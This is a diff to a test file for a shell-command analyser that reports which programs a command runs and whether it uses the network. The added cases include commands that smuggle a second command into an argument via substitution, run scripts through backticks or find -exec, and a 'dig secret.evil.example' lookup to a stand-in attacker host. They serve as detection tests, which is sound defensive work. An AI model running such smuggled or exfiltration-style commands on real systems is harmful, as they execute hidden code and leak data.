@@ -166,10 +166,20 @@ describe('analyseCommand: what it reports besides signatures', () => {
     }
   });
 
-  it('names the programs in order, unwrapping wrappers but not sudo', async () => {
+  it('names every program it runs, substitutions and wrapped commands included, but not wrappers other than sudo', async () => {
     expect((await analyseCommand('timeout 5 npm test && git push', ctx)).programs).toEqual(['npm', 'git']);
     expect((await analyseCommand('sudo apt update', ctx)).programs).toEqual(['sudo']);
-    expect((await analyseCommand('echo $(whoami)', ctx)).programs).toEqual(['echo']);
+    expect((await analyseCommand('echo $(whoami)', ctx)).programs).toEqual(['whoami', 'echo']);
+    for (const [command, program] of [
+      ['git --version "$(touch pwned)"', 'touch'],
+      ['echo "`bash x.sh`"', 'bash'],
+      ['cat <(python3 x.py)', 'python3'],
+      ['x=$(python3 evil.py); echo $x', 'python3'],
+      ["find . -name '*.py' -exec python3 {} \\;", 'python3'],
+      ["sh -c 'node x.js'", 'node'],
+    ] as const) {
+      expect((await analyseCommand(command, ctx)).programs, command).toContain(program);
+    }
   });
 
   it('notices the network and the hosts it reaches', async () => {
@@ -178,6 +188,7 @@ describe('analyseCommand: what it reports besides signatures', () => {
     expect(analysis.hosts).toEqual(['api.example.com']);
     expect((await analyseCommand('git push origin main', ctx)).network).toBe(true);
     expect((await analyseCommand('ls', ctx)).network).toBe(false);
+    expect((await analyseCommand('dig secret.evil.example', ctx)).network).toBe(true);
   });
 
   it('counts at least 60 cases', () => {
